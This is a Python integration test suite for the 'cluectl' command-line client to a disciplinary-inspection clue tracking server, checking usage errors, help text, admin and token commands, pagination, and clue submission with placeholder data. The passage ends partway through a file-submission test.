"""cluectl against the real clued and PostgreSQL: exit codes, human and --json output of
every command group, and the clue workflow driven through the command line only.

Commands for methods the server does not have yet (HandOver, AddNote, ListNotes,
ExtendDeadline, CaseService, AuditService, StatsService) are tested here too: while the
server answers UNIMPLEMENTED for one, its test prints SKIP and why; once the method lands
the test runs.
"""

import csv
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402
import world  # noqa: E402

UUID4 = re.compile(r"^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$")


class Ctx:
    def ctl(self, user, *args, check=None, input=None):
        """Run cluectl as user (a world.User, a token, or None for no token)."""
        token = user.token if hasattr(user, "token") else (user or "")
        return harness.cluectl(*args, env={"CLUED_SERVER": self.srv.addr, "CLUED_TOKEN": token},
                               check=check, input=input)

    def json(self, user, *args):
        r = self.ctl(user, "--json", *args, check=0)
        return json.loads(r.stdout)

    def submit(self, user, title="线索", **kw):
        """Submit through cluectl; returns the clue as JSON."""
        args = ["clue", "submit", "--title", title, "--summary", kw.get("summary", "反映某某违规收受礼金"),
                "--source", kw.get("source", "LETTER_VISIT_REPORT"),
                "--subject-name", kw.get("subject", "张三"), "--host-unit", kw.get("host", "市发展改革委")]
        for cat in kw.get("categories", ()):
            args += ["--category", cat]
        return self.json(user, *args)


def setup():
    c = Ctx()
    c.srv = harness.Clued(harness.test_database_url()).start()
    c.w = world.build(c.srv)
    return c


def teardown(c):
    c.w.close()
    c.srv.stop()


def requires(r, what):
    """Skip the calling test while the server answers UNIMPLEMENTED for `what`."""
    if r.returncode == 1 and r.stderr.startswith("UNIMPLEMENTED"):
        raise harness.Skip(f"the server answers UNIMPLEMENTED for {what}")
    return r


# ---- transport, usage and help -----------------------------------------------------------------


def test_health(c):
    r = c.ctl(None, "health", check=0)
    assert r.stdout == "SERVING\n" and r.stderr == ""
    assert json.loads(c.ctl(None, "--json", "health", check=0).stdout) == {"status": "SERVING"}


def test_health_watch_keepalive(c):
    """health --watch PINGs a server it has heard nothing from for --keepalive seconds; clued
    answers, and the watch goes on (an answer missing for as long would end it with exit
    status 1 before --timeout). PINGed more often than --keepalive-min-ping allows (5 minutes,
    as gRPC's servers), clued ends the connection, and the watch fails saying why."""
    own = harness.Clued(harness.test_database_url(), args=["--keepalive-min-ping", "0"]).start()
    try:
        r = harness.cluectl("--server", own.addr, "--timeout", "4", "health", "--watch", "--keepalive", "1", check=0)
        assert r.stdout == "SERVING\n" and r.stderr == "", r.stdout + r.stderr
    finally:
        own.stop()
    r = harness.cluectl("--server", c.srv.addr, "--timeout", "30", "health", "--watch", "--keepalive", "1", check=1)
    assert r.stdout == "SERVING\n" and "ENHANCE_YOUR_CALM: too_many_pings" in r.stderr, r.stdout + r.stderr


def test_connection_refused(c):
    port = harness.free_port()
    r = harness.cluectl("--server", f"127.0.0.1:{port}", "health", check=1)
    assert r.stderr == f"UNAVAILABLE: connection refused to 127.0.0.1:{port}\n", r.stderr
    assert r.stdout == ""
    r = harness.cluectl("clue", "list", env={"CLUED_SERVER": f"127.0.0.1:{port}"}, check=1)
    assert r.stderr == f"UNAVAILABLE: connection refused to 127.0.0.1:{port}\n", r.stderr


def test_usage_errors(c):
    cases = [
        (["clue"], "missing command"),
        (["clue", "frob"], "unknown command 'frob'"),
        (["clue", "get"], "missing ID"),
        (["clue", "get", "abc"], "'abc' is not a valid id"),
        (["clue", "get", "0"], "not a valid id"),
        (["clue", "get", "1", "2"], "unexpected argument '2'"),
        (["audit", "list", "--until-seq", "0"], "--until-seq: 0 is out of range"),  # 0 would mean none
        (["clue", "submit", "--title", "t"], "--summary is required"),
        (["clue", "submit", "--file", "x.json", "--title", "t"], "--title cannot be combined with --file"),
        (["clue", "submit", "--title", "t", "--summary", "s", "--source", "LETTER", "--subject-name", "n",
          "--host-unit", "h"], "'LETTER' is not one of LETTER_VISIT_REPORT|INSPECTION_TOUR"),
        (["clue", "list", "--state", "OPEN"], "'OPEN' is not one of ACCEPTED|PRELIMINARY_CHECK"),
        (["clue", "list", "--created-from", "2026-13-01"], "is not a date (YYYY-MM-DD) or an RFC 3339 time"),
        (["clue", "list", "--created-to", "2026-02-30"], "not a date"),
        (["clue", "list", "--created-to", "2026-02-01T10:00:00"], "not a date"),
        (["clue", "list", "--page-size", "501"], "out of range"),
        (["clue", "list", "--all", "--page-token", "x"], "--all starts from the first page"),
        (["clue", "move", "1", "--version", "1", "--reason", "r"], "--to is required"),
        (["clue", "move", "1", "--to", "FILED", "--version", "x", "--reason", "r"],
         "--version: 'x' is not a version (a positive integer)"),
        (["clue", "move", "1", "--to", "FILED", "--version", "-1", "--reason", "r"],
         "--version: '-1' is not a version (a positive integer)"),
        (["clue", "extend", "1", "--days", "3", "--version", "0", "--reason", "r"], "--version: '0' is not a version"),
        (["rect", "plan", "1", "--version", "-1", "--plan", "p"], "--version: '-1' is not a version (a positive integer)"),
        (["clue", "move", "1", "--to", "ACCEPTED", "--version", "1", "--reason", "r"],
         "--to: 'ACCEPTED' is not one of PRELIMINARY_CHECK|FILED|CLOSED|TRANSFERRED_TO_JUDICIAL\n"),
        (["clue", "move", "1", "--to", "DONE", "--version", "1", "--reason", "r"], "'DONE' is not one of"),
        (["clue", "move", "1", "--to", "CLOSED", "--version", "1", "--reason", "r", "--persons-disciplined", "-1"],
         "out of range"),
        (["clue", "review", "1"], "exactly one of --approve and --reject"),
        (["clue", "review", "1", "--approve", "--reject"], "exactly one of --approve and --reject"),
        (["clue", "proposals", "--to-review", "--raised"], "exclude each other"),
        (["clue", "note", "1", "--kind", "OTHER"], "exactly one of --text and --text-file"),
        (["clue", "note", "1", "--kind", "OTHER", "--text", "a", "--text-file", "-"], "exactly one of"),
        (["clue", "note", "1", "--kind", "OTHER", "--text-file", "/nonexistent/n.txt"], "cannot read"),
        (["clue", "extend", "1", "--days", "0", "--version", "1", "--reason", "r"], "out of range"),
        (["clue", "extend", "1", "--days", "366", "--version", "1", "--reason", "r"], "out of range (1 to 365)"),
        (["case", "add-clue", "1"], "--clue is required"),
        (["audit", "verify", "--subject-id", "3"], "--subject-id needs --subject-type"),
        (["audit", "watch", "--after-seq", "-1"], "out of range"),
        (["clue", "move", "1", "--to", "FILED", "--version", "1", "--reason", "r", "--request-id", "not-a-uuid"],
         "--request-id: 'not-a-uuid' is not a UUID (8-4-4-4-12 hexadecimal digits)"),
        (["rect", "plan", "1", "--version", "1", "--plan", "p", "--request-id",
          "0b9a43a5-49b2-4a3c-9d1e-5b1f1c0c7e0"], "is not a UUID"),  # a digit short
        (["case", "create", "--title", "t", "--request-id", "0b9a43a5x49b2-4a3c-9d1e-5b1f1c0c7e01"], "is not a UUID"),
        (["audit", "list", "--subject-id", "3"], "--subject-id needs --subject-type"),
        (["audit", "list", "--from", "2026-12-07", "--to", "2026-12-01"],
         "the period ends before it begins (--to is not after --from)"),
        (["audit", "list", "--from", "2026-12-07T10:00:00Z", "--to", "2026-12-07T10:00:00Z"], "(--to is not after"),
        (["audit", "list", "--after-seq", "10", "--until-seq", "10"], "--until-seq 10 is not above --after-seq 10"),
        (["clue", "list", "--created-from", "2026-12-31", "--created-to", "2026-01-01"],
         "the period ends before it begins (--created-to is not after --created-from)"),
        (["stats", "bulletin", "--month", "2026-13"], "--month: '2026-13' is not a month YYYY-MM (from 2000-01)"),
        (["stats", "bulletin", "--month", "2026-00"], "is not a month"),
        (["stats", "bulletin", "--month", "2026-1"], "is not a month"),
        (["stats", "bulletin", "--month", "2026/01"], "is not a month"),
        (["stats", "bulletin", "--month", "1999-12"], "is not a month"),
        (["stats", "bulletin", "--month", "2026-01-01"], "is not a month"),
        (["rect", "create", "--host-unit", "h", "--description", "d", "--category", "c", "--source", "clue",
          "--deadline", "2099-01-01"], "--source clue needs --clue"),
        (["rect", "create", "--host-unit", "h", "--description", "d", "--category", "c", "--source", "case",
          "--deadline", "2099-01-01"], "--source case needs --case"),
        (["rect", "create", "--host-unit", "h", "--description", "d", "--category", "c", "--source", "supervision",
          "--clue", "3", "--deadline", "2099-01-01"], "--clue goes with --source clue"),
        (["rect", "create", "--host-unit", "h", "--description", "d", "--category", "c", "--source", "clue",
          "--clue", "3", "--case", "4", "--deadline", "2099-01-01"], "--case goes with --source case"),
        (["stats", "--from", "2026-02-01", "--to", "2026-01-01"], "ends before it begins"),
        (["stats", "--from", "2026-01-01", "--to", "2026-02-01", "--cases"], "--cases goes with --csv"),
        (["--json", "stats", "--from", "2026-01-01", "--to", "2026-02-01", "--csv"], "exclude each other"),
        (["--timeout", "0x10", "health"], "--timeout: '0x10' is not a number of seconds"),
        (["--timeout", "1e3", "health"], "is not a number of seconds"),
        (["--timeout", " 5", "health"], "is not a number of seconds"),
        (["--server", "[::1]", "health"], "--server: '[::1]' has no port: give HOST:PORT"),
        (["--server", "::1", "health"], "has no port"),
        (["--server", "localhost", "health"], "has no port"),
    ]
    for args, want in cases:
        r = c.ctl(c.w.G1.leader, *args, check=2)
        assert want in r.stderr, (args, r.stderr)
        assert r.stdout == "", (args, r.stdout)


def test_help(c):
    r = c.ctl(None, "--help", check=0)
    for group in ("health", "clue", "case", "audit", "stats", "admin"):
        assert f"\n  {group} " in r.stdout, group
    commands = {
        "clue": ["submit", "get", "list", "move", "proposals", "review", "history", "handover", "note",
                 "notes", "extend", "assign", "unassign", "assignments", "recuse", "recusals"],
        "case": ["create", "show", "list", "add-participant", "remove-participant", "add-clue", "remove-clue"],
        "audit": ["list", "verify", "watch"],
    }
    for group, names in commands.items():
        out = c.ctl(None, group, "--help", check=0).stdout
        for name in names:
            assert f"\n  {name} " in out, (group, name)
            h = c.ctl(None, group, name, "--help", check=0).stdout
            assert h.startswith(f"Usage: cluectl {group} {name}"), h
    assert "--request-id UUID" in c.ctl(None, "clue", "submit", "--help", check=0).stdout
    assert "Usage: cluectl clue move ID --to STATE" in c.ctl(None, "help", "clue", "move", check=0).stdout
    h = c.ctl(None, "audit", "verify", "--help", check=0).stdout
    assert "exits 0" in h and "exits 1" in h
    h = c.ctl(None, "stats", "--help", check=0).stdout
    assert "--csv" in h and "RFC 4180" in h


def test_help_says_who_may_act(c):
    """The help of the commands that only some may run says who (server/domain/authz.h and
    rect.h), and options say their values and bounds."""
    def helptext(*cmd):
        return " ".join(c.ctl(None, *cmd, "--help", check=0).stdout.split())  # lines joined
    h = helptext("case", "add-participant")
    assert "A LEADER of the case's lead room adds a GROUP, ROOM or REGION" in h, h
    assert "None of its own clues enters the case" in h, h
    assert "A LEADER of the case's lead room removes" in helptext("case", "remove-participant")
    h = helptext("case", "add-clue")
    assert ("By consent only: a LEADER of the clue's owner unit, or of the case's lead room when that room owns "
            "the clue or is the owner group's liaison room") in h and "1,000 clues" in h, h
    assert "A LEADER of the clue's owner unit (who need not see the case), or of the case's lead room" in helptext(
        "case", "remove-clue")
    assert "A MEMBER or LEADER of the supervising unit records it, on an item OPEN or REOPENED" in helptext(
        "rect", "plan")
    assert "A MEMBER or LEADER of the supervising unit submits it, on an item PLAN_RECORDED" in helptext(
        "rect", "submit")
    assert "A LEADER of the supervising unit, on a SUBMITTED item" in helptext("rect", "verify")
    assert "A LEADER of the supervising unit, on a SUBMITTED item" in helptext("rect", "reopen")
    for sub in ("get", "list"):
        h = helptext("rect", sub)
        assert "MEMBERs and LEADERs of the supervising unit, of its liaison room and of the units that lead or " \
               "join the source case see an item, and AUDITORs" in h, h
    h = helptext("rect", "list")
    assert "--state STATE OPEN, PLAN_RECORDED, SUBMITTED, VERIFIED or REOPENED" in h, h
    assert "--source SOURCE CLUE, CASE or SUPERVISION" in h, h
    assert "--page-size N events per page (1-500, default 50)" in helptext("audit", "list")
    r = c.ctl(c.w.auditor, "audit", "list", "--page-size", "501", check=2)
    assert "--page-size: 501 is out of range (1 to 500)" in r.stderr, r.stderr
    h = helptext("clue", "proposals")
    assert "Newest first, every one: the server answers in pages" in h and "--page-token" not in h, h
    for sub in ("recusals", "assignments"):
        h = helptext("clue", sub)
        assert "Newest first, a page at a time" in h and "--page-token TOKEN" in h and "--all" in h, h
    assert "unless they call with an enrollment token" in helptext("clue", "get")
    assert "a --service the server does not know is NOT_FOUND" in helptext("health")
    r = c.ctl(None, "health", "--service", "nope", check=1)
    assert r.stderr.startswith("NOT_FOUND: "), r.stderr


def test_every_listed_command_has_help(c):
    # Each command `cluectl --help` lists answers --help, -h and `cluectl help CMD` with its
    # usage (completion and help too: they answered "only 'bash' is supported" and "unknown
    # command"); nothing else runs.
    top = c.ctl(None, "--help", check=0).stdout
    listed = top.split("Commands:\n", 1)[1].split("\n\n", 1)[0]
    names = [ln.split()[0] for ln in listed.splitlines()]
    assert "completion" in names and "help" in names, names
    for name in names:
        for args in ((name, "--help"), (name, "-h"), ("help", name)):
            out = c.ctl(None, *args, check=0).stdout
            assert out.startswith(f"Usage: cluectl {name}"), (args, out[:200])
    # A shell named or not, help is help; the script needs bash named.
    assert c.ctl(None, "completion", "bash", "--help", check=0).stdout.startswith("Usage: cluectl completion")
    assert c.ctl(None, "completion", "bash", check=0).stdout.startswith("# bash completion for cluectl")
    assert "only 'bash'" in c.ctl(None, "completion", check=2).stderr


# ---- admin -------------------------------------------------------------------------------------


def test_admin_commands(c):
    w = c.w
    lines = c.ctl(w.admin, "admin", "units", check=0).stdout.splitlines()
    assert lines[0].split()[:4] == ["ID", "KIND", "CODE", "NAME"]
    rows = {ln.split()[2]: ln.split() for ln in lines[1:]}
    assert rows["G1"][:2] == [str(w.G1.id), "GROUP"] and rows["R1"][1] == "ROOM"
    # The liaison room by its code, for people to read; --json keeps the id too.
    col = lines[0].index("LIAISON ROOM")
    g1 = next(ln for ln in lines[1:] if ln.split()[2] == "G1")
    assert g1[col:].split()[0] == "R1", lines
    units = {u["code"]: u for u in c.json(w.admin, "admin", "units")["units"]}
    assert units["G1"]["liaison_room_id"] == w.R1.id and units["G1"]["liaison_room_code"] == "R1"
    units = c.json(w.admin, "admin", "units", "--kind", "group")["units"]
    assert {u["code"] for u in units} == {"G1", "G2", "G3"}
    assert all(u["kind"] == "UNIT_KIND_GROUP" for u in units)

    r = c.ctl(w.admin, "admin", "create-unit", "--kind", "GROUP", "--code", "G9", "--name", "第九派驻纪检监察组",
              "--liaison-room", str(w.R1.id), "--host-unit", "市住建局", "--host-unit", "市水务局", check=0)
    rec = dict((k.strip(), v.strip()) for k, v in (ln.split(":", 1) for ln in r.stdout.splitlines()))
    assert rec["code"] == "G9" and rec["kind"] == "GROUP" and rec["host_units"] == "市住建局, 市水务局"
    unit_id = int(rec["id"])
    r = c.ctl(w.admin, "admin", "create-unit", "--kind", "GROUP", "--code", "G9", "--name", "x",
              "--liaison-room", str(w.R1.id), check=1)
    assert r.stderr.startswith("ALREADY_EXISTS: "), r.stderr
    user = c.json(w.admin, "admin", "create-user", "--unit", str(unit_id), "--name", "新成员", "--role", "member")
    assert user["role"] == "ROLE_MEMBER" and user["unit_id"] == unit_id
    users = c.ctl(w.admin, "admin", "users", "--unit", str(unit_id), check=0).stdout.splitlines()
    assert users[0].split()[:6] == ["ID", "UNIT", "UNIT", "NAME", "NAME", "ROLE"], users
    assert len(users) == 2 and users[1].split()[1:5] == ["G9", "第九派驻纪检监察组", "新成员", "MEMBER"], users
    listed = c.json(w.admin, "admin", "users", "--unit", str(unit_id))["users"]
    assert [(u["unit_id"], u["unit_code"], u["unit_name"]) for u in listed] == [(unit_id, "G9", "第九派驻纪检监察组")]

    r = c.ctl(w.admin, "admin", "issue-token", "--user", str(user["id"]), "--note", "cli test", check=0)
    token = r.stdout.strip()
    assert re.fullmatch(r"ct_[0-9a-f]{64}", token), r.stdout
    m = re.match(r"token (\d+) issued", r.stderr)
    assert m, r.stderr
    # The new token works: the member submits a clue of the new unit and lists it.
    cl = c.submit(token, title="新单位线索")
    assert cl["owner_unit_id"] == unit_id and cl["registration_number"].startswith("G9-")
    assert "新单位线索" in c.ctl(token, "clue", "list", check=0).stdout
    # A member is no admin.
    r = c.ctl(token, "admin", "units", check=1)
    assert r.stderr.startswith("PERMISSION_DENIED"), r.stderr
    rv = c.json(w.admin, "admin", "revoke-token", "--token-id", m.group(1))
    assert rv["token_id"] == int(m.group(1)) and rv["revoked_at_ms"] > 0
    r = c.ctl(token, "clue", "list", check=1)
    assert r.stderr.startswith("UNAUTHENTICATED"), r.stderr
    assert r.stdout == "" and "CLUED_TOKEN" not in r.stderr  # a token was given: no hint
    r = c.ctl(None, "admin", "units", check=1)
    assert r.stderr.startswith("UNAUTHENTICATED"), r.stderr
    assert "no token was given: set CLUED_TOKEN, or pass --token-file FILE (or --token)" in r.stderr, r.stderr


def test_admin_units_and_users_come_in_pages(c):
    """`admin units` and `admin users` list a page (--page-size rows) and print the next page's
    token on stderr; --page-token goes on from it, --all follows every page."""
    w = c.w
    A, GROUP = harness.stubs().admin_pb2, harness.stubs().common_pb2.UNIT_KIND_GROUP
    units = [u.id for u in harness.every_page(w.admin.admin.ListUnits, A.ListUnitsRequest(), "units", timeout=20)]
    groups = [u.id for u in harness.every_page(w.admin.admin.ListUnits, A.ListUnitsRequest(kind=GROUP), "units",
                                               timeout=20)]
    users = [u.id for u in harness.every_page(w.admin.admin.ListUsers, A.ListUsersRequest(), "users", timeout=20)]
    g1 = [u.id for u in harness.every_page(w.admin.admin.ListUsers, A.ListUsersRequest(unit_id=w.G1.id), "users",
                                           timeout=20)]
    assert len(units) > 4 and len(groups) >= 3 and len(users) > 4 and len(g1) >= 2

    def ids(r):
        return [int(ln.split()[0]) for ln in r.stdout.splitlines()[1:]]

    more = re.compile(r"More results: add --page-token (\S+) \(or --all for every page\)\.\n")
    r = c.ctl(w.admin, "admin", "units", "--page-size", "2", check=0)
    assert r.stdout.splitlines()[0].split()[:4] == ["ID", "KIND", "CODE", "NAME"] and ids(r) == units[:2]
    m = more.fullmatch(r.stderr)
    assert m, r.stderr
    r = c.ctl(w.admin, "admin", "units", "--page-size", "2", "--page-token", m.group(1), check=0)
    assert ids(r) == units[2:4], r.stdout
    for args in (("--all", "--page-size", "2"), ("--all",), ()):
        every = c.json(w.admin, "admin", "units", *args)
        assert [u["id"] for u in every["units"]] == units and every.get("next_page_token", "") == "", args
    r = c.ctl(w.admin, "admin", "units", "--all", "--page-size", "1", "--kind", "group", check=0)
    assert ids(r) == groups and r.stderr == ""
    # A token of one kind is no token of another, nor of the users.
    tok = more.fullmatch(c.ctl(w.admin, "admin", "units", "--page-size", "1", "--kind", "group", check=0).stderr)
    r = c.ctl(w.admin, "admin", "units", "--page-token", tok.group(1), check=1)
    assert r.stderr.startswith("INVALID_ARGUMENT: page_token is malformed or was issued for another list"), r.stderr
    r = c.ctl(w.admin, "admin", "users", "--page-token", tok.group(1), check=1)
    assert r.stderr.startswith("INVALID_ARGUMENT: page_token"), r.stderr

    r = c.ctl(w.admin, "admin", "users", "--page-size", "3", check=0)
    assert ids(r) == users[:3]
    m = more.fullmatch(r.stderr)
    assert m, r.stderr
    r = c.ctl(w.admin, "admin", "users", "--page-size", "3", "--page-token", m.group(1), check=0)
    assert ids(r) == users[3:6]
    assert [u["id"] for u in c.json(w.admin, "admin", "users", "--all", "--page-size", "2")["users"]] == users
    r = c.ctl(w.admin, "admin", "users", "--unit", str(w.G1.id), "--all", "--page-size", "1", check=0)
    assert ids(r) == g1 and r.stderr == ""
    # Usage: the bounds of --page-size, and --all starts from the first page.
    for cmd in ("units", "users"):
        for bad in ("0", "1001", "x"):
            r = c.ctl(w.admin, "admin", cmd, "--page-size", bad, check=2)
            assert "--page-size" in r.stderr, r.stderr
        r = c.ctl(w.admin, "admin", cmd, "--all", "--page-token", m.group(1), check=2)
        assert "--all starts from the first page" in r.stderr, r.stderr
        assert "--page-token" in c.ctl(None, "admin", cmd, "--help", check=0).stdout


# ---- clues -------------------------------------------------------------------------------------


def test_submit_and_get(c):
    w = c.w
    r = c.ctl(w.G1.member, "clue", "submit", "--title", "某局长违规收受礼金", "--summary", "反映其收受购物卡",
              "--source", "letter_visit_report", "--subject-name", "张三", "--subject-position", "局长",
              "--subject-rank", "正处", "--top-leader", "--host-unit", "市发展改革委",
              "--category", "违反廉洁纪律", "--category", "违反工作纪律",
              "--reporter-name", "李四", "--reporter-phone", "13800000000", check=0)
    m = re.fullmatch(r"clue (\d+) (G1-\d{4}-\d{4}) submitted \(request id (\S+)\)\n", r.stdout)
    assert m, r.stdout
    cid, number, rid = int(m.group(1)), m.group(2), m.group(3)
    assert UUID4.match(rid), rid
    # A retry with the printed request id and the same fields returns the same clue and creates
    # nothing (the source spelled otherwise is the same field); with other fields it is refused.
    same = ["clue", "submit", "--title", "某局长违规收受礼金", "--summary", "反映其收受购物卡",
            "--source", "LETTER_VISIT_REPORT", "--subject-name", "张三", "--subject-position", "局长",
            "--subject-rank", "正处", "--top-leader", "--host-unit", "市发展改革委",
            "--category", "违反廉洁纪律", "--category", "违反工作纪律",
            "--reporter-name", "李四", "--reporter-phone", "13800000000", "--request-id", rid]
    again = c.json(w.G1.member, *same)
    assert again["id"] == cid and again["registration_number"] == number and again["request_id"] == rid
    r = c.ctl(w.G1.member, *[a if a != "李四" else "王五" for a in same], check=1)
    assert r.stderr.startswith("INVALID_ARGUMENT") and "was already used for a different request" in r.stderr, r.stderr
    fresh = c.submit(w.G1.member)
    assert fresh["id"] != cid and UUID4.match(fresh["request_id"]) and fresh["request_id"] != rid
    assert list(fresh)[0] == "request_id" and fresh["state"] == "CLUE_STATE_ACCEPTED"

    g = c.json(w.G1.member, "clue", "get", str(cid))
    assert g["subject"] == {"name": "张三", "position": "局长", "rank_level": "正处", "is_top_leader": True}
    assert g["violation_categories"] == ["违反廉洁纪律", "违反工作纪律"]
    assert g["reporter_on_file"] and g["reporter"] is None, "a member does not see the reporter"
    assert "request_id" not in g
    assert c.json(w.G1.leader, "clue", "get", str(cid))["reporter"]["phone"] == "13800000000"

    out = c.ctl(w.G1.leader, "clue", "get", str(cid), check=0).stdout
    assert out.startswith(f"Clue {cid} ({number})\n"), out
    rec = dict((ln[:13].strip(), ln[13:].strip()) for ln in out.splitlines()[1:])
    assert rec["Title:"] == "某局长违规收受礼金" and rec["Source:"] == "LETTER_VISIT_REPORT"
    assert rec["Subject:"] == "张三, 局长, 正处 (top leader)"
    assert rec["Categories:"] == "违反廉洁纪律, 违反工作纪律"
    assert rec["State:"] == "ACCEPTED (version 1)"
    assert rec["Owner unit:"] == "G1 group G1"  # the code and name, not the id
    # The moment it falls due: a date and the time of day the stage began (or a day's end).
    assert re.fullmatch(r"\d{4}-\d\d-\d\d (\d\d:\d\d|\(end of day\)) \(29 days left\)", rec["Deadline:"]), \
        rec["Deadline:"]
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d by G1-member", rec["Created:"]), rec["Created:"]
    if "end of day" not in rec["Deadline:"]:
        assert rec["Deadline:"][11:16] == rec["Created:"][11:16], (rec["Deadline:"], rec["Created:"])
    doc = c.json(w.G1.leader, "clue", "get", str(cid))  # --json keeps the ids, and has the names
    assert doc["owner_unit_id"] == w.G1.id and doc["created_by"] == w.G1.member.id, doc
    assert (doc["owner_unit_code"], doc["owner_unit_name"], doc["created_by_name"]) == ("G1", "group G1", "G1-member")
    assert rec["Reporter:"] == "李四" and rec["phone:"] == "13800000000"
    out = c.ctl(w.G1.member, "clue", "get", str(cid), check=0).stdout
    assert "Reporter:     on file" in out and "13800000000" not in out
    # The owner's leader calling with its enrollment token is told why it sees no contacts.
    out = c.ctl(w.G1.leader.enrollment_token, "clue", "get", str(cid), check=0).stdout
    assert "Reporter:     on file (shown to leaders of the owner unit, not with an enrollment token)\n" in out, out

    r = c.ctl(w.G2.leader, "clue", "get", str(cid), check=1)
    assert r.stderr.startswith("NOT_FOUND"), r.stderr
    r = c.ctl(w.G1.member, "clue", "submit", "--title", " ", "--summary", "s", "--source", "AUDIT",
              "--subject-name", "n", "--host-unit", "h", check=1)
    assert r.stderr.startswith("INVALID_ARGUMENT: ") and "title" in r.stderr, r.stderr
    # A request id not in the server's form is a usage error, and nothing is sent; the form in
    # capitals is the same id (the retry finds the clue).
    r = c.ctl(w.G1.member, "clue", "submit", "--title", "t", "--summary", "s", "--source", "AUDIT",
              "--subject-name", "n", "--host-unit", "h", "--request-id", "not-a-uuid", check=2)
    assert r.stderr.startswith("cluectl clue submit: --request-id: 'not-a-uuid' is not a UUID"), r.stderr
    assert c.json(w.G1.member, *same[:-1], rid.upper())["id"] == cid


def _count(c, user):
    return len(c.json(user, "clue", "list", "--all")["clues"])


def test_categories_read_as_they_were_given(c):
    # A category holding ", " or starting with a quote is quoted in `clue get`, its quotes
    # doubled: three categories read as three.
    w = c.w
    r = c.ctl(w.G1.member, "clue", "submit", "--title", "分类显示", "--summary", "s", "--source", "audit",
              "--subject-name", "张三", "--host-unit", "市发展改革委", "--category", "违反廉洁纪律, 违反工作纪律",
              "--category", '"四风"问题', "--category", "其他", check=0)
    cid = re.match(r"clue (\d+) ", r.stdout).group(1)
    assert c.json(w.G1.member, "clue", "get", cid)["violation_categories"] == [
        "违反廉洁纪律, 违反工作纪律", '"四风"问题', "其他"]
    out = c.ctl(w.G1.member, "clue", "get", cid, check=0).stdout
    line = [ln for ln in out.splitlines() if ln.startswith("Categories:")][0]
    assert line[13:].strip() == '"违反廉洁纪律, 违反工作纪律", """四风""问题", 其他', line


def test_submit_file(c):
    w = c.w
    d = tempfile.mkdtemp(prefix="cluectl-")
    one = {"title": "文件提交", "summary": "s", "source": "AUDIT", "subject": {"name": "赵六", "isTopLeader": True},
           "host_unit": "市交通运输局", "violation_categories": ["违反廉洁纪律"],
           "reporter": {"name": "举报人", "email": "a@example.org"}}
    path = os.path.join(d, "one.json")
    with open(path, "w") as f:
        json.dump(one, f, ensure_ascii=False, indent=2)
    r = c.ctl(w.G2.member, "clue", "submit", "--file", path, check=0)
    m = re.fullmatch(r"clue (\d+) G2-\d{4}-\d{4} submitted \(request id (\S+)\)\n", r.stdout)
    assert m, r.stdout
    got = c.json(w.G2.leader, "clue", "get", m.group(1))
    assert got["subject"]["is_top_leader"] and got["reporter"]["email"] == "a@example.org"
    assert got["source"] == "SOURCE_CHANNEL_AUDIT"

    # An array: one line per clue, in order; a given request_id is kept.
    key = harness.new_request_id()
    batch = [dict(one, title=f"批量{i}", subject={"name": f"对象{i}"}) for i in range(3)]
    batch[1]["request_id"] = key
    path = os.path.join(d, "batch.json")
    with open(path, "w") as f:
        json.dump(batch, f, ensure_ascii=False)
    r = c.ctl(w.G2.member, "clue", "submit", "--file", path, check=0)
    lines = r.stdout.splitlines()
    assert len(lines) == 3, r.stdout
    assert f"(request id {key})" in lines[1]
    ids = [int(ln.split()[1]) for ln in lines]
    assert [c.json(w.G2.member, "clue", "get", str(i))["title"] for i in ids] == ["批量0", "批量1", "批量2"]
    # --json: one JSON object per line; from stdin; the fixed key returns the same clue again.
    r = c.ctl(w.G2.member, "--json", "clue", "submit", "--file", "-", check=0, input=json.dumps(batch[1:2]))
    docs = [json.loads(ln) for ln in r.stdout.splitlines()]
    assert len(docs) == 1 and docs[0]["id"] == ids[1] and docs[0]["request_id"] == key

    # Mistakes are reported as PATH:LINE:COLUMN and nothing is sent.
    before = _count(c, w.G2.member)
    bad = [
        ('[\n  {"title": "a"},\n  {"title": "b", "titel": "c"}\n]', ":3:18: element 2: unknown field 'titel'"),
        ('{"title": "a",\n "source": "LETTER"}', ":2:12: field 'source': 'LETTER' is not a SourceChannel"),
        ('{"title": "a",}', ":1:15: trailing comma"),
        ('{"title": "a"', ":1:14: expected ',' or '}'"),
        ('{"subject": {"name": 5}}', ":1:22: field 'name' must be a string, not a number"),
        ('', ":1:1: unexpected end of input"),
        ('[{"title": "a"}] x', ":1:18: unexpected 'x' after the end"),
    ]
    for text, want in bad:
        with open(os.path.join(d, "bad.json"), "w") as f:
            f.write(text)
        r = c.ctl(w.G2.member, "clue", "submit", "--file", os.path.join(d, "bad.json"), check=2)
        assert r.stderr.startswith("cluectl clue submit: " + os.path.join(d, "bad.json") + want), (text, r.stderr)
        assert r.stdout == ""
    r = c.ctl(w.G2.member, "clue", "submit", "--file", "-", check=2, input='{"title": 1}')
    assert r.stderr.startswith("cluectl clue submit: <stdin>:1:11: "), r.stderr
    assert _count(c, w.G2.member) == before
    # An array submitted twice under one --request-id makes each clue once: every element
    # without a request_id of its own is sent with one derived from it and its position.
    rid = harness.new_request_id()
    twice = json.dumps([dict(one, title=f"重试{i}") for i in range(3)])
    runs = [[json.loads(ln) for ln in c.ctl(w.G2.member, "--json", "clue", "submit", "--file", "-",
                                            "--request-id", rid, check=0, input=twice).stdout.splitlines()]
            for _ in range(2)]
    assert [d["id"] for d in runs[0]] == [d["id"] for d in runs[1]], runs
    assert [d["request_id"] for d in runs[0]] == [d["request_id"] for d in runs[1]], runs
    assert len({d["id"] for d in runs[0]}) == 3 and len({d["request_id"] for d in runs[0]} | {rid}) == 4
    assert _count(c, w.G2.member) == before + 3
    # The server refuses the second element: the first was submitted, the third never sent;
    # the retry cluectl advises (once the element is mended) submits the first no second time.
    refused = [dict(one, title="先到"), dict(one, title=""), dict(one, title="未发送")]
    r = c.ctl(w.G2.member, "clue", "submit", "--file", "-", check=1, input=json.dumps(refused))
    assert len(r.stdout.splitlines()) == 1 and r.stderr.startswith("INVALID_ARGUMENT: title"), r.stderr
    assert "element 2 of 3 was not submitted; element 1 was; nothing after it was sent." in r.stderr
    assert "may or may not" not in r.stderr, r.stderr
    assert _count(c, w.G2.member) == before + 4
    m = re.search(r"Retrying with --file - --request-id (\S+) submits each element at most\nonce", r.stderr)
    assert m, r.stderr
    refused[1]["title"] = "补正"
